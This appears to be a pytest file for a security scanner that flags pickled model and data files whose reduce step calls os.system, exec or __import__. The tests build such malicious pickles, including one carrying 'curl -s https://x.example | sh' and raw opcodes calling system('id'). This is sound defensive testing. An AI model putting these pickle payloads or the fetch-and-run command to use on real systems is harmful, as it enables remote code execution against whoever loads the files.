"""Data files whose pickle runs code when it is loaded (``_scan._pickled_data``, blind17:
tune b17-np-pickle-model-file, b17-np-npy-allow-pickle)."""

from __future__ import annotations

import collections
import os
import pickle
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._pickled_data import pickled_call
from caplet._scan._scanner import scan_tree


class _Calls:
    """Pickles as ``_Calls(os.system, "id")``: its reduce names the callable; pickling it
    calls nothing (``pickle.dumps`` only writes the opcodes)."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def _danger(root: Path, mode: ScanMode) -> set[tuple[str, str]]:
    report = scan_tree(root, mode=mode)
    return {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (_Calls(os.system, "curl -s https://x.example | sh"), os.system.__module__ + ".system"),
        (_Calls(exec, "import os"), "builtins.exec"),
        (_Calls(__import__, "socket"), "builtins.__import__"),
    ],
)
def test_a_pickle_that_calls_a_process_or_exec_names_it(
    payload: _Calls, expected: str, protocol: int
) -> None:
    assert pickled_call(b"\x93NUMPY header " + pickle.dumps(payload, protocol)) == expected


@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
@pytest.mark.parametrize("name", ["weights/model.pkl", "data/emb.npy", "ckpt/last.pt"])
def test_a_shipped_model_file_with_such_a_pickle_is_danger(
    tmp_path: Path, mode: ScanMode, name: str
) -> None:
    target = tmp_path / "pkg" / name
    target.parent.mkdir(parents=True)
    target.write_bytes(pickle.dumps(_Calls(os.system, "id"), 2))
    (tmp_path / "pkg" / "__init__.py").write_text("VERSION = 1\n")
    assert ("CPL-THR-001", f"pkg/{name}") in _danger(tmp_path, mode)


@pytest.mark.parametrize(
    "payload",
    [
        # what models and caches pickle: containers, an ordered dict, bytes (numpy's
        # _codecs.encode), a bound method (builtins.getattr), a class of the library
        {"weights": [0.1, 0.2], "labels": ("a", "b")},
        collections.OrderedDict(layer=[1.0, 2.0]),
        b"\x00\x01raw tensor bytes",
        "text".upper,
        Path("models/x.bin"),
    ],
)
@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_pickles_of_data_stay_clean(payload: object, protocol: int) -> None:
    assert pickled_call(pickle.dumps(payload, protocol)) is None


def test_files_not_named_as_pickles_are_not_read_as_pickles(tmp_path: Path) -> None:
    # a document quoting the opcodes, a source's test data: not a file a loader unpickles
    (tmp_path / "notes.txt").write_bytes(b"cos\nsystem\n(S'id'\ntR.")
    (tmp_path / "blob.dat").write_bytes(pickle.dumps(_Calls(os.system, "id"), 0))
    assert not _danger(tmp_path, ScanMode.PACKAGE)
